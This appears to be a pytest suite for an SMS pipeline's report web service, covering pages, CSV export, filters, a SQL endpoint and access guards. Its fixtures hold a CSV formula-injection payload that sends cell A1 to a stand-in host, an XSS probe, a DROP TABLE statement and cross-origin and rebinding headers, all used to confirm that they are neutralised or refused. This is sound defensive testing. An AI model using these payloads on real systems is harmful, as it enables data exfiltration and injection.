"""The report over HTTP: what it shows, what it gives away, and to whom."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.records import (
    ConsentChange,
    DeadLetter,
    DeadLetterRetry,
    Header,
    MoDeliveryResult,
    MtCommand,
    MtRejection,
    Record,
)
from pipeline.settings import Settings
from pipeline.store.clickhouse.writer import ClickHouseWriter
from pipeline.store.decoding import TABLE_OF, TableRows
from pipeline.store.report.assembly import report_from
from pipeline.store.report.export.csv_form import cell_from_value, csv_from_rows
from pipeline.store.report.lists.filters import BadFilter, filters_from_query, with_days
from pipeline.store.report.lists.listings import LISTINGS
from pipeline.store.report.thread import ReportThread
from pipeline.store.rows import columns_of, row_from_record
from pipeline.store.story.again import RETRY_OF
from pipeline.web.access import AccessError
from tests.store.report.serving_report import Running
from tests.store.samples import AT, AT_MS, HANDSET, NUMBER, SAMPLES, mo_message
from tests.support.asking import questions_of

if TYPE_CHECKING:
    from collections.abc import Iterator

    import httpx

    from pipeline.store.clickhouse.database import Database

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
MARKUP = "<script>alert(1)</script>"


LINK = Header(name=RETRY_OF, value=b"7" * 32)


def by_kind(kind: type[Record]) -> Any:
    return next(sample for sample in SAMPLES if type(sample) is kind)


def store(database: Database, records: list[Record]) -> None:
    writer = ClickHouseWriter(database.writing)
    for number, record in enumerate(records):
        kind = type(record)
        row = row_from_record(
            record, key=HANDSET.encode(), partition=0, offset=number, written_ms=AT_MS
        )
        rows = TableRows(TABLE_OF[kind], columns_of(kind), [row])
        asyncio.run(writer.insert(rows, tag=f"report {number}"))
    writer.close()


@pytest.fixture(scope="module")
def filled(database: Database) -> Database:
    store(
        database,
        [
            mo_message(
                message_id="m1",
                text="Hello",
                complete=True,
                parts_missing=[],
                lossy=False,
                flags=[],
            ),
            mo_message(message_id="m2", text=FORMULA, gateway_time=AT + timedelta(seconds=1)),
            mo_message(message_id="m3", text=MARKUP, handset="447700900002", number="88802"),
            by_kind(MtCommand),
            by_kind(MtRejection),
            by_kind(ConsentChange),
            by_kind(DeadLetter),
            msgspec.structs.replace(by_kind(DeadLetter), dead_letter_id="8" * 32, headers=[LINK]),
            by_kind(DeadLetterRetry),
            by_kind(MoDeliveryResult),
        ],
    )
    return database


@pytest.fixture(scope="module")
def running(filled: Database) -> Iterator[Running]:
    opened = Running(filled)
    yield opened
    opened.stop()


@pytest.fixture
def client(running: Running) -> httpx.Client:
    return running.client


def test_the_first_page_shows_each_list_with_what_is_in_it(client: httpx.Client) -> None:
    page = client.get("/").text
    for words in (
        "Latest conversations",
        "Changes of consent",
        "Refused to send",
        "Incomplete messages",
        "Dead letters",
        "Handed on",
    ):
        assert words in page
    for found in (
        HANDSET,
        NUMBER,
        "88802",
        "stop-word",
        "opted-out",
        "missing-to",
        "Service Unavailable",
        "confirmation-due",
    ):
        assert found in page


@pytest.mark.parametrize(
    "path", ["/", f"/conversation?handset={HANDSET}", "/list/messages", "/list/refusals"]
)
def test_a_page_runs_our_script_alone_and_fetches_nothing_from_elsewhere(
    client: httpx.Client, path: str
) -> None:
    answer = client.get(path)
    assert answer.status_code == 200
    assert answer.text.count("<script") == 1
    assert 'report.js" defer></script>' in answer.text
    assert "http://" not in answer.text.replace("http://x.example", "")
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert answer.headers["cache-control"] == "no-store"


def test_the_conversation_is_in_order_with_what_was_refused(client: httpx.Client) -> None:
    page = client.get("/conversation", params={"handset": f"+{HANDSET}"}).text
    assert "opted-out" in page
    assert page.index("Hello") < page.index("HYPERLINK")
    assert "stopped since 05:06" in page
    assert "gateway: confirmation-due" in page
    assert "88802" not in page


@pytest.mark.parametrize("name", LISTINGS)
def test_each_list_is_a_page_and_a_csv_with_a_heading(client: httpx.Client, name: str) -> None:
    assert client.get(f"/list/{name}").status_code == 200
    whose = {"handset": HANDSET} if "handset" in LISTINGS[name].filters else {}
    answer = client.get(f"/csv/{name}", params=whose)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
    empty = client.get(f"/csv/{name}", params={"from": "2299-01-01"} | whose)
    assert answer.content.splitlines()[0] == empty.content.splitlines()[0]
    assert len(list(csv.reader(io.StringIO(empty.text)))) == 1


def test_a_letter_that_was_retried_is_marked_and_counts_no_more(client: httpx.Client) -> None:
    rows = csv.DictReader(io.StringIO(client.get("/csv/dead-letters").content.decode("utf-8-sig")))
    assert {row["dead_letter_id"]: (row["retry_of"], bool(row["retried_at"])) for row in rows} == {
        "7" * 32: ("", True),
        "8" * 32: ("7" * 32, False),
    }
    assert re.search(r"Dead letters</a></dt><dd>1</dd>", client.get("/").text)


def test_filters_narrow_every_list(client: httpx.Client) -> None:
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get("/csv/messages", params={"number": "88802"}).content.decode("utf-8-sig")
            )
        )
    )
    assert [row["id"] for row in rows] == ["m3"]
    assert "HYPERLINK" not in client.get("/", params={"number": "88802"}).text
    later = client.get("/csv/messages", params={"from": "2026-03-05", "to": "2026-03-06"})
    assert len(later.text.splitlines()) == 1


def test_a_formula_in_a_message_is_text_in_the_csv(client: httpx.Client) -> None:
    text = client.get("/csv/conversation", params={"handset": HANDSET}).content.decode("utf-8-sig")
    cells = [row["text"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("  =1", "'  =1"),
        ("\n=1", "'\n'=1"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("a;=1", "a;'=1"),
        ("a; =1", "a;' =1"),
        ("a\t@x", "a\t'@x"),
        ("=1;=2", "'=1;'=2"),
        ("a;b", "a;b"),
        ("\u200b=1", "'\u200b=1"),
        ("\u202e=1", "'\u202e=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u00ad=1", "'\u00ad=1"),
        ("\u061c=1", "'\u061c=1"),
        ("\u3164=1", "'\u3164=1"),
        ("\u034f\u200d+1", "'\u034f\u200d+1"),
        ("\U000e0001=1", "'\U000e0001=1"),
        ("a\u200b=1", "a\u200b=1"),
        ("447700900001", "447700900001"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (True, "true"),
        (None, ""),
        (AT, "2026-03-04 05:06:07.891"),
        (date(2026, 3, 4), "2026-03-04"),
    ],
)  # fmt: skip
def test_a_cell_is_typed_or_harmless(value: Any, cell: Any) -> None:
    assert cell_from_value(value) == cell


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_any_text_is_read_back_from_the_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_from_rows([["text"], [text]]).decode(), newline="")))
    assert rows[0] == ["text"]
    if text:
        (found,) = rows[1]
        assert found.replace("'", "") == text.replace("'", "")
        assert not found.lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    "query",
    [
        {"from": "yesterday"},
        {"to": "2026-13-01"},
        {"from": "1066-10-14"},
        {"from": "2026-02-01", "to": "2026-01-01"},
        {"number": "1" * 65},
    ],
    ids=["no-date", "no-such-date", "too-old", "backwards", "too-long"],
)
def test_a_filter_that_cannot_be_read_is_said(client: httpx.Client, query: dict[str, str]) -> None:
    with pytest.raises(BadFilter):
        filters_from_query(query)
    assert client.get("/", params=query).status_code == 400


def test_without_dates_the_last_30_days_are_shown() -> None:
    filters = with_days(filters_from_query({}), newest=datetime(2026, 3, 31, 23, tzinfo=UTC))
    assert (filters.since, filters.until) == (datetime(2026, 3, 2, tzinfo=UTC), None)
    assert filters.parameters()["until"] == "2299-12-31 00:00:00.000"


def test_sql_as_text_and_as_json(client: httpx.Client) -> None:
    text = client.post("/sql", content="SELECT message_id FROM mo_message ORDER BY message_id")
    assert text.headers["content-type"] == "application/x-ndjson; charset=utf-8"
    assert [json.loads(line)["message_id"] for line in text.text.splitlines()] == ["m1", "m2", "m3"]
    asked = {
        "query": "SELECT count() AS n FROM mo_message WHERE handset = {h:String}",
        "parameters": {"h": HANDSET},
    }
    assert client.post("/sql", json=asked).json() == {"n": 2}


@pytest.mark.parametrize(
    ("body", "status", "words"),
    [
        ("DROP TABLE mo_raw_rows", 400, "DROP is not allowed"),
        ("SELECT nothing", 400, "UNKNOWN_IDENTIFIER"),
        ("SELECT (", 400, "SYNTAX_ERROR"),
        ("", 400, "there is no statement"),
        (b"SELECT '\xff'", 400, "cannot be read"),
        ("SELECT 1" + " " * 70_000, 413, "at most 65536 octets"),
    ],
    ids=["refused", "unknown", "syntax", "empty", "not-utf-8", "too-long"],
)
def test_sql_that_is_not_answered(client: httpx.Client, body: Any, status: int, words: str) -> None:
    answer = client.post("/sql", content=body)
    assert (answer.status_code, words in answer.text) == (status, True)


@pytest.mark.parametrize(
    "body", [{"sql": "SELECT 1"}, {"query": 1}, [], {"query": "SELECT 1", "parameters": []}]
)
def test_json_that_is_no_question(client: httpx.Client, body: Any) -> None:
    assert client.post("/sql", json=body).status_code == 400


@pytest.mark.parametrize("depth", [9, 900, 12_000])
@pytest.mark.parametrize("shape", ["[]", "{}"])
def test_parameters_too_deep_are_refused(client: httpx.Client, shape: str, depth: int) -> None:
    opening, closing = ("[", "]") if shape == "[]" else ('{"a":', "}")
    nested = opening * depth + "1" + closing * depth
    body = f'{{"query": "SELECT {{x:String}}", "parameters": {{"x": {nested}}}}}'
    answer = client.post(
        "/sql", content=body[:65_000], headers={"Content-Type": "application/json"}
    )
    assert answer.status_code == 400
    assert len(answer.content) < 2_000


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/sql", 405),
        ("POST", "/", 405),
        ("GET", "/nothing", 404),
        ("GET", "/csv/nothing", 404),
        ("HEAD", "/", 200),
    ],
)
def test_what_there_is_not(client: httpx.Client, method: str, path: str, status: int) -> None:
    assert client.request(method, path).status_code == status


def test_health_readiness_and_metrics(running: Running) -> None:
    assert running.client.get("/healthz").status_code == 200
    assert running.client.get("/readyz").status_code == 200
    running.ready = False
    assert running.client.get("/readyz").status_code == 503
    running.ready = True
    assert "twoway_store_rows_total" in running.client.get("/metrics").text


def test_a_name_that_points_here_is_not_let_in(client: httpx.Client) -> None:
    assert client.get("/", headers={"Host": "rebinding.example"}).status_code == 403
    assert client.get("/", headers={"Host": "localhost:8081"}).status_code == 200


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        pytest.param({"Host": "127.0.0.1:99999"}, 400, id="a port there is not"),
        pytest.param({"Host": "a b"}, 400, id="no host"),
        pytest.param({"Origin": "http://evil.example"}, 403, id="a page elsewhere"),
        pytest.param({"Origin": "null"}, 403, id="a page without an origin"),
        pytest.param({"Sec-Fetch-Site": "cross-site"}, 403, id="another site"),
        pytest.param({"X-Forwarded-For": "203.0.113.9"}, 403, id="an unlisted proxy"),
        pytest.param({"Host": "localhost:1", "Origin": "http://localhost:1"}, 200, id="own page"),
        pytest.param({"Sec-Fetch-Site": "none"}, 200, id="typed by its reader"),
    ],
)
def test_a_page_elsewhere_cannot_ask(
    client: httpx.Client, headers: dict[str, str], status: int
) -> None:
    for kind in ("text/plain", "application/json"):
        content = "SELECT 1" if kind == "text/plain" else '{"query": "SELECT 1"}'
        answer = client.post("/sql", content=content, headers=headers | {"Content-Type": kind})
        assert answer.status_code == status
    assert client.get("/healthz", headers=headers).status_code == 200


def test_on_another_address_it_does_not_start_without_a_guard(database: Database) -> None:
    with pytest.raises(AccessError, match=r"0\.0\.0\.0 is not a loopback address"):
        report_from(
            Settings(report_host="0.0.0.0"),  # noqa: S104  that is the test
            questions_of(database),
            is_ready=bool,
        )


def test_with_a_token_links_stay_below_it(filled: Database) -> None:
    opened = Running(filled, tokens="s3cret")
    try:
        page = opened.client.get("/t/s3cret/")
        assert page.status_code == 200
        assert 'href="/' not in page.text
        assert opened.client.get("/t/wrong/").status_code == 403
    finally:
        opened.stop()


def test_a_port_that_is_taken_is_said(running: Running, filled: Database) -> None:
    report = report_from(Settings(), questions_of(filled), is_ready=bool)
    taken = ReportThread(report, host="127.0.0.1", port=running.client.base_url.port or 0)
    with pytest.raises(OSError, match="address already in use"):
        taken.start()
    taken.stop()
